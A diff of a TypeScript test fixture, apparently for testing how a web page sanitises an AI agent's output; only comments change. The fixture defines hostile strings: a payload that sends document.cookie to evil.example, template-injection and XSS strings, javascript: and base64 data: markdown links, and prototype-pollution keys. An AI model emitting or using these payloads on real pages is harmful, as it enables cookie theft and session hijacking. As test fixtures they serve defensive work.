@@ -1,6 +1,6 @@
 /*
- * What an agent may print to reach further than the page lets it. Each one, were it taken for more than text, would set
- * `pwned`, ask another host, leave the page, or pretend to be something else.
+ * Hostile output of an agent. If a page treated it as more than text, it would set `pwned`, send a request to another host,
+ * leave the page, or pretend to be something else.
  */
 
 const DO_HARM = "window.pwned=1;fetch('https://evil.example/'+document.cookie)";
@@ -20,7 +20,7 @@ const MARKUP = [
   `{{constructor.constructor('${DO_HARM}')()}} \${${DO_HARM}} <%= 1 %>`,
 ];
 
-/** Markdown that leads elsewhere. */
+/** Markdown that links elsewhere. */
 const MARKDOWN = [
   `[a link](javascript:${encodeURIComponent(DO_HARM)})`,
   `[a link](JaVaScRiPt:alert%281%29 "title") [tabs](java&#9;script:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
@@ -42,7 +42,7 @@ const DISGUISES = [
 /** All of them. */
 export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...MARKDOWN, ...DISGUISES];
 
-/** Names that an object may have for itself. */
+/** Keys with a special meaning in JavaScript objects. */
 export const HOSTILE_KEYS = {
   ['__proto__']: { pwned: 1 },
   constructor: { prototype: { pwned: 1 } },
